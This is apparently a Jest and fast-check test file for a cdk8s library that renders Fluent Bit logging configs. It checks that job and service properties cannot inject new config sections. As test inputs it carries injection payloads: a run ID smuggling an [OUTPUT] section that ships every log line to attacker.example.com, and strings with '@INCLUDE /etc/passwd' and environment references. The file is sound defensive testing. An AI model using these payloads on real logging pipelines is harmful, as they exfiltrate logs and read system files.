/* eslint-disable @typescript-eslint/no-explicit-any */
import { ApiObject, Testing } from 'cdk8s';
import * as fc from 'fast-check';
import { ImageReference, k8s } from '../../src';

const IMAGE = ImageReference.fromString(`ghcr.io/acme/fraud-train@sha256:${'c'.repeat(64)}`);
const MODEL = { name: 'fraud-scorer', version: '1.4.2' };

/** A tiny reader of Fluent Bit's classic format, independent of the library: `[NAME]` sections and `key value` entries. */
function parseClassic(text: string): Array<{ name: string; entries: Array<[string, string]> }> {
  const sections: Array<{ name: string; entries: Array<[string, string]> }> = [];
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    if (line === '' || line.startsWith('#')) {
      continue;
    }
    const header = /^\[(.*)\]$/.exec(line);
    if (header) {
      sections.push({ name: header[1], entries: [] });
    } else {
      const [, key, value] = /^(\S+)\s*(.*)$/.exec(line)!;
      if (sections.length === 0) {
        sections.push({ name: '(root)', entries: [] });
      }
      sections[sections.length - 1].entries.push([key, value]);
    }
  }
  return sections;
}

function configOf(workload: k8s.CompliantTrainingJob | k8s.CompliantModelService): string {
  return (workload.node.findChild('LogShipperConfig') as ApiObject).toJson().data['fluent-bit.conf'];
}

function trainingConfig(props: Partial<k8s.CompliantTrainingJobProps>): string {
  return configOf(new k8s.CompliantTrainingJob(Testing.chart(), 'retrain', { image: IMAGE, ...props }));
}

function serviceConfig(props: Partial<k8s.CompliantModelServiceProps>): string {
  return configOf(new k8s.CompliantModelService(Testing.chart(), 'scorer', { image: IMAGE, model: MODEL, ...props }));
}

const sidecar = (destination: k8s.LogDestination, options: k8s.SidecarLogShippingOptions = {}) => k8s.LogShipping.sidecar(destination, options);

describe('Fluent Bit configuration: no prop can add an entry or a section', () => {
  test('fails when runId holds a newline and a second [OUTPUT] (it would ship every log line to another host)', () => {
    const runId = 'run-1\n\n[OUTPUT]\n    Name http\n    Match *\n    Host attacker.example.com';
    expect(() => trainingConfig({ runId })).toThrow(
      /^test\/retrain: invalid runId "run-1\\n\\n\[OUTPUT\].*": holds the control character U\+000A; .*; remove line breaks/);
  });

  test.each([
    ['a carriage return', 'run-1\r[OUTPUT]', /control character U\+000D/],
    ['a tab', 'run\t1', /control character U\+0009/],
    ['a NUL', 'run\u00001', /control character U\+0000/],
    ['a Unicode line separator', 'run\u20281', /control character U\+2028/],
    ['an environment reference', 'run-${HOSTNAME}', /holds "\$\{", which Fluent Bit replaces by an environment variable/],
    ['a blank (the modify filter splits at blanks)', 'run 1', /holds a blank, a quote or a backslash/],
    ['a quote', 'run"1', /holds a blank, a quote or a backslash/],
    ['a leading blank', ' run-1', /holds a blank|starts or ends with a blank/],
  ])('fails when runId holds %s', (_what, runId, message) => {
    expect(() => trainingConfig({ runId })).toThrow(message);
  });

  test('a run ID with the characters run IDs use is written intact', () => {
    const conf = trainingConfig({ runId: 'mlflow:run/3f2a_9.b-c@x+y=z' });
    expect(conf).toContain('    Add                run_id mlflow:run/3f2a_9.b-c@x+y=z\n');
  });

  test.each([
    ['host', () => k8s.LogDestination.fluentForward({ host: 'agg\n[OUTPUT]' }), /invalid host "agg\\n\[OUTPUT\]": is not a host name/],
    ['logsPath', () => k8s.LogDestination.otlpHttp({ host: 'otel.o.svc', logsPath: '/v1/logs\n    Host evil' }), /invalid logsPath/],
    ['logsPath with a blank', () => k8s.LogDestination.otlpHttp({ host: 'otel.o.svc', logsPath: '/v1/logs x' }), /invalid logsPath/],
    ['tenantId', () => k8s.LogDestination.loki({ host: 'loki.l.svc', tenantId: 'ml\n[OUTPUT]' }), /invalid tenantId/],
    ['index', () => k8s.LogDestination.elasticsearch({ host: 'es.l.svc', index: 'models\n[OUTPUT]' }), /invalid index/],
    ['tlsCaConfigMap', () => k8s.LogDestination.otlpHttp({ host: 'otel.o.svc', tls: true, tlsCaConfigMap: 'ca\nx' }), /invalid tlsCaConfigMap/],
    ['logDirectory', () => sidecar(k8s.LogDestination.fluentForward({ host: 'agg' }), { logDirectory: '/var/log\n[OUTPUT]' }), /invalid logDirectory/],
  ])('fails when %s holds a line break', (_prop, make, message) => {
    expect(make).toThrow(message);
  });

  test('fails when model.version holds a line break (it is a record field of the service)', () => {
    expect(() => serviceConfig({ model: { name: 'fraud-scorer', version: '1.4.2\n[OUTPUT]' } })).toThrow(/model/);
  });
});

// Strings that mix the characters that matter to the classic format with ordinary ones.
const hostile = fc.oneof(
  fc.stringMatching(/^[a-z0-9][a-z0-9._:/-]{0,20}$/),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: fc.constantFrom('a', 'Z', '0', '.', '-', '_', '/', ':', ' ', '\t', '\n', '\r', '[', ']', '#', '@', '$', '{', '}', '"', '\'', '\\', '*', '\u0085', '\u2028'), maxLength: 30 }),
  fc.tuple(fc.stringMatching(/^[a-z0-9][a-z0-9.-]{0,10}$/), fc.constantFrom('\n[OUTPUT]\n    Name http', '\r\n@INCLUDE /etc/passwd', ' ${HOME}', '\n    Host evil')).map(([a, b]) => a + b),
);

const EXPECTED_SECTIONS = ['SERVICE', 'INPUT', 'FILTER', 'OUTPUT'];

/** Renders the config with `value` in `prop`, or undefined when the library refuses the value. */
function renderWith(prop: string, value: string): { conf: string; expected: [string, string, string] } | undefined {
  try {
    switch (prop) {
      case 'runId':
        return { conf: trainingConfig({ runId: value }), expected: ['FILTER', 'Add', `run_id ${value}`] };
      case 'model.version':
        return { conf: serviceConfig({ model: { name: 'fraud-scorer', version: value } }), expected: ['FILTER', 'Add', `model_version ${value}`] };
      case 'host':
        return { conf: trainingConfig({ logShipping: sidecar(k8s.LogDestination.fluentForward({ host: value, peer: k8s.NetworkPeer.cidr('10.0.0.0/8') })) }), expected: ['OUTPUT', 'Host', value] };
      case 'logsPath':
        return { conf: trainingConfig({ logShipping: sidecar(k8s.LogDestination.otlpHttp({ host: 'otel.o.svc', logsPath: value })) }), expected: ['OUTPUT', 'Logs_uri', value] };
      case 'tenantId':
        return { conf: trainingConfig({ logShipping: sidecar(k8s.LogDestination.loki({ host: 'loki.l.svc', tenantId: value })) }), expected: ['OUTPUT', 'Tenant_id', value] };
      case 'index':
        return { conf: trainingConfig({ logShipping: sidecar(k8s.LogDestination.openSearch({ host: 'os.l.svc', index: value })) }), expected: ['OUTPUT', 'Index', value] };
      case 'logDirectory':
        return { conf: trainingConfig({ logShipping: sidecar(k8s.LogDestination.fluentForward({ host: 'agg' }), { logDirectory: value }) }), expected: ['INPUT', 'Path', `${value}/*.log`] };
      default:
        throw new Error(`no such prop ${prop}`);
    }
  } catch (e) {
    if ((e as Error).message.startsWith('no such prop')) {
      throw e;
    }
    return undefined;
  }
}

describe('property: for any string in any prop that reaches the config, the library throws or writes it intact', () => {
  test.each(['runId', 'model.version', 'host', 'logsPath', 'tenantId', 'index', 'logDirectory'])('%s', (prop) => {
    let written = 0;
    fc.assert(fc.property(hostile, (value) => {
      // paths must start with "/": give the arbitrary string that start, so that it reaches the rest of the validation
      const rendered = renderWith(prop, ['logsPath', 'logDirectory'].includes(prop) ? `/${value}` : value);
      if (rendered === undefined) {
        return;
      }
      written++;
      const sections = parseClassic(rendered.conf);
      expect(sections.map((s) => s.name)).toEqual(EXPECTED_SECTIONS);
      const [section, key, expectedValue] = rendered.expected;
      const entries = sections.find((s) => s.name === section)!.entries.filter(([k]) => k === key).map(([, v]) => v);
      expect(entries).toContain(expectedValue);
      if (key === 'Add') {
        // the modify filter splits Add into exactly a field name and a value
        expect(expectedValue.split(/\s+/)).toHaveLength(2);
      }
      // no entry references the environment except the library's own shared-key variable
      expect(rendered.conf).not.toMatch(/\$\{(?!FLUENT_FORWARD_SHARED_KEY\})/);
      expect(rendered.conf).not.toMatch(/^\s*@/m);
    }), { numRuns: 80 });
    // the property is not vacuous: some values were accepted and written
    expect(written).toBeGreaterThan(0);
  });
});
